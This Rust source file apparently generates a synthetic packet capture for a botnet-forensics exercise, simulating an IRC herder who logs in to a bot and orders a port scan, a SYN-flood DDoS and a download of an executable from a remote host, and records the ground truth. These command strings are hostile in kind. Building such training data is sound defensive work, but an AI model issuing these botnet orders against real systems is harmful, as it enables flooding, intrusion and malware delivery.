//! The herder's side of the field (issue 15, class 5): a capture taken at
//! the herder's IRC client (`vantage/herder.pcap`). The herder of the
//! field's first C&C channel logs in to its first bot by PRIVMSG to the
//! bot's nick (`.login`, `.bot.sysinfo`, `.download`), orders the channel
//! (a scan, a flood, `.ddos.stop`), and the server relays the bot's
//! replies with the bot's `nick!user@address` prefix.
//!
//! Drawn from its own stream (the seed mixed with a constant), after the
//! rest of the field, so nothing else changes.

use crate::pcap::PcapFile;
use crate::tcp::Tcp;
use crate::truth::{FileTruth, HerderOrderTruth, HerderSessionTruth, IrcSessionTruth};
use botscope_core::{FlowKey, Proto, Ts};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use std::io;
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;

/// The capture's path, relative to the field's folder.
pub const HERDER_PCAP: &str = "vantage/herder.pcap";

/// Mixed into the seed so the herder's stream is its own.
const STREAM: u64 = 0x6865_7264_6572_5f35;

/// The herder's account password (`.login NICK PASS`).
const PASSWORD: &str = "s3cr3t";

/// Writes the herder's session with the bot of `session` (a C&C session of
/// the field, `herder` the channel's herder nick) and returns its file and
/// truth.
pub fn render_herder(
    seed: u64,
    session: &IrcSessionTruth,
    herder: &str,
    scan_order: &str,
    out: &Path,
) -> io::Result<(FileTruth, HerderSessionTruth)> {
    let mut r = ChaCha8Rng::seed_from_u64(seed ^ STREAM);
    let client = Ipv4Addr::new(
        r.random_range(24..=80),
        r.random(),
        r.random(),
        r.random_range(2..=250),
    );
    let cport = r.random_range(1025..5000u16);
    let (server, port, ch) = (session.server, session.port, session.channel.clone());
    let srv = format!("irc.{}", session.fqdn);
    let (bot, bot_ip) = (session.nick.clone(), session.bot);
    let bot_prefix = format!("{bot}!{bot}@{bot_ip}");
    // During the bot's first session, ten minutes after it joined.
    let connect = session.join.0 + 600_000_000;
    std::fs::create_dir_all(out.join("vantage"))?;
    let mut f = PcapFile::create(&out.join(HERDER_PCAP))?;
    let mut c = Tcp::new(client, cport, server, port, connect, r.random());
    c.handshake(&mut f);
    c.c_send(
        &mut f,
        format!("NICK {herder}\r\nUSER {herder} 0 0 :{herder}\r\n").as_bytes(),
    );
    c.t += 400_000;
    c.s_send(
        &mut f,
        format!(
            ":{srv} 001 {herder} :Welcome to the Internet Relay Network {herder}\r\n:{srv} 376 {herder} :End of /MOTD command.\r\n"
        )
        .as_bytes(),
    );
    c.t += 1_500_000;
    let join = match &session.key {
        Some(k) => format!("JOIN {ch} {k}\r\n"),
        None => format!("JOIN {ch}\r\n"),
    };
    c.c_send(&mut f, join.as_bytes());
    c.s_send(
        &mut f,
        format!(
            ":{herder}!~{herder}@{client} JOIN :{ch}\r\n:{srv} 353 {herder} @ {ch} :@{herder} {bot}\r\n:{srv} 366 {herder} {ch} :End of /NAMES list.\r\n"
        )
        .as_bytes(),
    );
    let target_ip = Ipv4Addr::new(
        r.random_range(60..=200),
        r.random(),
        r.random(),
        r.random_range(2..=250),
    );
    let secs = r.random_range(60..600u32);
    let web = Ipv4Addr::new(
        r.random_range(60..=200),
        r.random(),
        r.random(),
        r.random_range(2..=250),
    );
    let file: String = (0..5)
        .map(|_| char::from(b'a' + r.random_range(0..26u8)))
        .collect();
    let url = format!("http://{web}/{file}.exe");
    let o = bot_ip.octets();
    let (range, scan_port, scanner) = scan_reply_parts(scan_order, o);
    // (target, order, the bot's replies).
    let plan: Vec<(String, String, Vec<String>)> = vec![
        (
            bot.clone(),
            format!(".login {herder} {PASSWORD}"),
            vec!["Password accepted.".into()],
        ),
        (
            bot.clone(),
            ".bot.sysinfo".into(),
            vec!["cpu: 2400MHz. ram: 523760KB total, 301228KB free. os: Windows XP (5.1, build 2600).".into()],
        ),
        (
            ch.clone(),
            scan_order.to_string(),
            vec![format!(
                "[SCAN]: Random Port Scan started on {range}:{scan_port} using {scanner}."
            )],
        ),
        (
            ch.clone(),
            format!(".ddos.synflood {target_ip} {secs} 50 6667"),
            vec![format!(
                "[DDoS]: Flooding: ({target_ip}:6667) for {secs} seconds."
            )],
        ),
        (
            bot.clone(),
            format!(".download {url} c:\\{file}.exe 1"),
            vec![format!(
                "[DOWNLOAD]: Downloading URL: {url} to: c:\\{file}.exe."
            )],
        ),
        (
            ch.clone(),
            ".ddos.stop".into(),
            vec!["[DDoS]: Stopped flooding.".into()],
        ),
    ];
    let mut orders = Vec::new();
    for (to, raw, replies) in plan {
        c.t += r.random_range(3_000_000..20_000_000);
        let ts = c.t;
        c.c_send(&mut f, format!("PRIVMSG {to} :{raw}\r\n").as_bytes());
        // A reply to the channel goes to the channel, a private one to
        // the herder.
        let reply_to = if to == ch { ch.as_str() } else { herder };
        for text in &replies {
            c.t += 1_500_000;
            c.s_send(
                &mut f,
                format!(":{bot_prefix} PRIVMSG {reply_to} :{text}\r\n").as_bytes(),
            );
        }
        let mut w = raw.split_whitespace();
        let command = w.next().unwrap_or("").trim_start_matches('.').to_string();
        orders.push(HerderOrderTruth {
            ts: Ts(ts),
            bot: (to != ch).then_some(bot_ip),
            bot_nick: (to != ch).then(|| bot.clone()),
            target: to,
            command,
            args: w.map(String::from).collect(),
            raw,
            replies,
        });
    }
    c.t += 5_000_000;
    c.c_send(&mut f, b"QUIT :bye\r\n");
    c.close(&mut f, true);
    let end = c.t;
    let (packets, bytes) = f.finish()?;
    let truth = HerderSessionTruth {
        file: HERDER_PCAP.into(),
        client,
        server,
        port,
        nick: herder.to_string(),
        channel: ch,
        bot: bot_ip,
        bot_nick: bot,
        bot_prefix,
        connect: Ts(connect),
        end: Ts(end),
        flow: FlowKey {
            orig_h: IpAddr::V4(client),
            orig_p: cport,
            resp_h: IpAddr::V4(server),
            resp_p: port,
            proto: Proto::Tcp,
        },
        orders,
    };
    let file = FileTruth {
        path: HERDER_PCAP.into(),
        kind: "pcap: the herder's IRC client (orders sent, replies relayed)".into(),
        packets,
        bytes,
    };
    Ok((file, truth))
}

/// The range, port and scanner name a bot's `[SCAN]` reply names for one
/// of the field's scan orders (as the scenario's bots reply).
fn scan_reply_parts(order: &str, o: [u8; 4]) -> (String, u16, String) {
    let w: Vec<&str> = order.split_whitespace().collect();
    let cmd = w.first().map(|c| c.trim_start_matches('.')).unwrap_or("");
    let (scanner, port) = match cmd {
        "ntscan" => ("netbios".to_string(), 445u16),
        "ipscan" => (w.get(2).copied().unwrap_or_default().to_string(), 135),
        _ => {
            let s = w.get(1).copied().unwrap_or_default().to_string();
            let p = if s == "lsass" { 445 } else { 135 };
            (s, p)
        }
    };
    let range = if order.contains(" -a") {
        format!("{}.0.0.0/8", o[0])
    } else if order.contains(" -b") || cmd == "ipscan" {
        format!("{}.{}.0.0/16", o[0], o[1])
    } else {
        format!("{}.{}.{}.0/24", o[0], o[1], o[2])
    };
    (range, port, scanner)
}
